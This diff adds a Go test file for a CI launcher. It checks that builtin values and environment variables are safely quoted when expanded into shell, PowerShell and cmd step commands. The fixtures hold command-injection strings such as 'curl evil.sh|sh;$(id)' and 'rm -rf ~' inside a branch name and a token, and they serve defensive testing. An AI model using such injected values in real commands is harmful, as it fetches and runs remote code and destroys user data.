@@ -0,0 +1,123 @@
+package main
+
+import (
+	"testing"
+
+	"github.com/screwdriver-cd/launcher/screwdriver"
+)
+
+func TestBuiltinValues(t *testing.T) {
+	build := screwdriver.Build{ID: 42, EventID: 7, SHA: "0123456789abcdef"}
+	job := screwdriver.Job{ID: 3, Name: "PR-5:main", PipelineID: 9}
+	values := builtinValues(build, job, "master", "5")
+	for name, want := range map[string]string{
+		"build.id":      "42",
+		"event.id":      "7",
+		"job.id":        "3",
+		"job.name":      "PR-5:main",
+		"pipeline.id":   "9",
+		"git.sha":       "0123456789abcdef",
+		"git.sha_short": "0123456",
+		"git.branch":    "master",
+		"pr.number":     "5",
+	} {
+		if values[name] != want {
+			t.Errorf("%s = %q, want %q", name, values[name], want)
+		}
+	}
+	if short := builtinValues(screwdriver.Build{SHA: "abc"}, job, "", "")["git.sha_short"]; short != "abc" {
+		t.Errorf("git.sha_short = %q, want the whole short SHA", short)
+	}
+}
+
+func TestExpandCommand(t *testing.T) {
+	env := []string{"FOO=foo", "BAR=bar", "EMPTY=", "TOKEN=a b; rm -rf ~"}
+	builtins := map[string]string{"build.id": "42", "git.sha_short": "0123456", "git.branch": "x;curl evil.sh|sh;$(id)'", "job.name": "${TOKEN}"}
+	tests := []struct {
+		cmd     string
+		options templateOptions
+		want    string
+	}{
+		{"docker build -t app:${{git.sha_short}} .", templateOptions{}, "docker build -t app:0123456 ."},
+		{"echo ${{ build.id }} ${FOO}", templateOptions{}, "echo 42 ${FOO}"},
+		// The step environment comes first, the shell expands the rest
+		{"echo ${FOO}-${BAR} $FOO ${FOO:-x}", templateOptions{Env: true}, "echo foo-step $FOO ${FOO:-x}"},
+		{"echo [${EMPTY}] ${UNSET}", templateOptions{Env: true}, "echo [''] ${UNSET}"},
+		{"echo ${FOO}", templateOptions{Strict: true}, "echo foo"},
+		// Values can't change what the step runs, nor be expanded again
+		{"git push origin ${{git.branch}}", templateOptions{}, `git push origin 'x;curl evil.sh|sh;$(id)'\'''`},
+		{"echo ${TOKEN}", templateOptions{Env: true}, `echo 'a b; rm -rf ~'`},
+		{"echo ${{job.name}}", templateOptions{Env: true}, `echo '${TOKEN}'`},
+		{"git push origin ${{git.branch}}", templateOptions{Shell: "/usr/bin/pwsh"}, `git push origin 'x;curl evil.sh|sh;$(id)'''`},
+		{"git push origin ${{git.branch}}", templateOptions{Shell: `C:\Windows\System32\cmd.exe`}, `git push origin "x;curl evil.sh|sh;$(id)'"`},
+		// Between quotes, values are escaped for them rather than quoted
+		{`echo "v=${TOKEN}" 'v=${TOKEN}'`, templateOptions{Env: true}, `echo "v=a b; rm -rf ~" 'v=a b; rm -rf ~'`},
+		{`git push origin "${{git.branch}}" '${{git.branch}}'`, templateOptions{}, `git push origin "x;curl evil.sh|sh;\$(id)'" 'x;curl evil.sh|sh;$(id)'\'''`},
+		{`echo "$(echo ${TOKEN})" "\"${FOO}"`, templateOptions{Env: true}, `echo "$(echo 'a b; rm -rf ~')" "\"foo"`},
+		{"# don't\necho ${TOKEN}", templateOptions{Env: true}, "# don't\necho 'a b; rm -rf ~'"},
+		{"cat <<-'EOF'\n\tit's ${{build.id}}\n\tEOF\necho ${TOKEN}", templateOptions{Env: true}, "cat <<-'EOF'\n\tit's 42\n\tEOF\necho 'a b; rm -rf ~'"},
+		{`Write-Host "v=${{git.branch}}" 'v=${{git.branch}}'`, templateOptions{Shell: "pwsh"}, "Write-Host \"v=x;curl evil.sh|sh;`$(id)'\" 'v=x;curl evil.sh|sh;$(id)'''"},
+		{`echo "v=${{git.branch}}"`, templateOptions{Shell: "cmd"}, `echo "v=x;curl evil.sh|sh;$(id)'"`},
+	}
+	for _, test := range tests {
+		cmd := screwdriver.CommandDef{Name: "test", Cmd: test.cmd, Environment: map[string]string{"BAR": "step"}}
+		got, err := expandCommand(cmd, env, nil, builtins, test.options)
+		if err != nil {
+			t.Errorf("expandCommand(%q) unexpected error: %v", test.cmd, err)
+		} else if got != test.want {
+			t.Errorf("expandCommand(%q) = %q, want %q", test.cmd, got, test.want)
+		}
+	}
+}
+
+func TestExpandCommandErrors(t *testing.T) {
+	cmd := screwdriver.CommandDef{Name: "test", Cmd: "echo ${{git.sha}} ${{job.nmae}}"}
+	_, err := expandCommand(cmd, nil, nil, map[string]string{"git.sha": "abc"}, templateOptions{})
+	if err == nil || err.Error() != "Step test uses unknown values job.nmae" {
+		t.Errorf("expandCommand() error = %v, want the unknown value", err)
+	}
+
+	cmd = screwdriver.CommandDef{Name: "test", Cmd: "echo ${ZED} ${FOO} ${ALPHA} ${ZED}"}
+	_, err = expandCommand(cmd, []string{"FOO=foo"}, nil, nil, templateOptions{Strict: true})
+	if err == nil || err.Error() != "Step test uses variables ALPHA, ZED, which neither the build environment nor the steps up to it set" {
+		t.Errorf("expandCommand() error = %v, want the undefined variables", err)
+	}
+
+	// Values that could end a here-document or the double quotes of cmd
+	for _, test := range []struct{ shell, cmd string }{
+		{"/bin/sh", "cat <<EOF\n${{git.branch}}\nEOF"},
+		{"cmd", `echo "${{git.branch}}"`},
+	} {
+		cmd := screwdriver.CommandDef{Name: "test", Cmd: test.cmd}
+		_, err = expandCommand(cmd, nil, nil, map[string]string{"git.branch": "a\"\nEOF"}, templateOptions{Shell: test.shell})
+		if err == nil {
+			t.Errorf("expandCommand(%q) expanded a value it can't escape", test.cmd)
+		}
+	}
+}
+
+func TestExpandCommands(t *testing.T) {
+	commands := []screwdriver.CommandDef{{Name: "one", Cmd: "echo ${{build.id}}"}, {Name: "two", Cmd: "true"}}
+	build := screwdriver.Build{Commands: commands}
+	if err := expandCommands(&build, nil, map[string]string{"build.id": "42"}, templateOptions{}); err != nil {
+		t.Fatalf("Unexpected error expanding the commands: %v", err)
+	}
+	if build.Commands[0].Cmd != "echo 42" || build.Commands[1].Cmd != "true" {
+		t.Errorf("Commands = %v, want the build ID expanded", build.Commands)
+	}
+	if commands[0].Cmd != "echo ${{build.id}}" {
+		t.Errorf("The commands given were changed: %v", commands)
+	}
+
+	// The variables the steps set are left to the shell, strict or not
+	build = screwdriver.Build{Commands: []screwdriver.CommandDef{
+		{Name: "setup", Cmd: "export DEPLOY_ENV=prod; FOO=${FOO}-x"},
+		{Name: "deploy", Cmd: "echo ${DEPLOY_ENV} ${FOO} ${BAR}"},
+	}}
+	if err := expandCommands(&build, []string{"FOO=foo", "BAR=bar"}, nil, templateOptions{Strict: true}); err != nil {
+		t.Fatalf("Unexpected error expanding the commands: %v", err)
+	}
+	if want := "echo ${DEPLOY_ENV} ${FOO} bar"; build.Commands[1].Cmd != want {
+		t.Errorf("Command = %q, want %q", build.Commands[1].Cmd, want)
+	}
+}